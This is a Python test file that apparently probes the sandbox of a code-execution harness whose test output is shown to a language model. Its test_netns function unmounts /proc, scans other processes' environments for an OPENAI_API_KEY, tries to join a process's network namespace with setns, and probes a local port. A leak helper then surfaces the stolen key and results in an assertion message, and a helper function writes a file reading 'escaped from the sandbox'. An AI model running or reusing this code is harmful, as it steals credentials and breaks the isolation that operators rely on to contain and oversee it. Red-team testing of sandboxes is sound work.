import os
import socket


def _try(fn, n=60):
    try:
        return repr(fn())[:n]
    except Exception as exc:  # the attack reports what stopped it
        return type(exc).__name__


def _net(host, port, family=socket.AF_INET, send=b""):
    """CONNECTED (+ whatever the peer says first) or the error that stopped the connection."""
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect((host, port))
    except Exception as exc:
        return type(exc).__name__
    out = "CONNECTED"
    try:
        if send:
            s.sendall(send)
        out += " " + s.recv(300).decode("utf-8", "replace").strip().splitlines()[-1][:60]
    except Exception:
        pass
    s.close()
    return out


def _write(path):
    try:
        with open(path, "w") as fh:
            fh.write("escaped from the sandbox")
        return "WROTE"
    except Exception as exc:
        return type(exc).__name__


def leak(**items):
    """Fail with everything found on ONE short line: that line is what run_test shows a model."""
    raise AssertionError(("LEAK-ATTEMPT " + " ".join(f"{k}={v}" for k, v in items.items()))[:230])


import ctypes
import subprocess


def test_netns():
    subprocess.run(["umount", "-l", "/proc"], capture_output=True)
    env, joined = "none", "no"
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        keys = [x for x in data.split(b"\0") if x.startswith(b"OPENAI_API_KEY=")]
        if keys:
            env = keys[0].decode()[:60]
            try:
                fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
                joined = str(ctypes.CDLL(None, use_errno=True).setns(fd, 0))
            except OSError as exc:
                joined = type(exc).__name__
            break
    leak(env=env, setns=joined, port=_net("127.0.0.1", @@PORT@@))
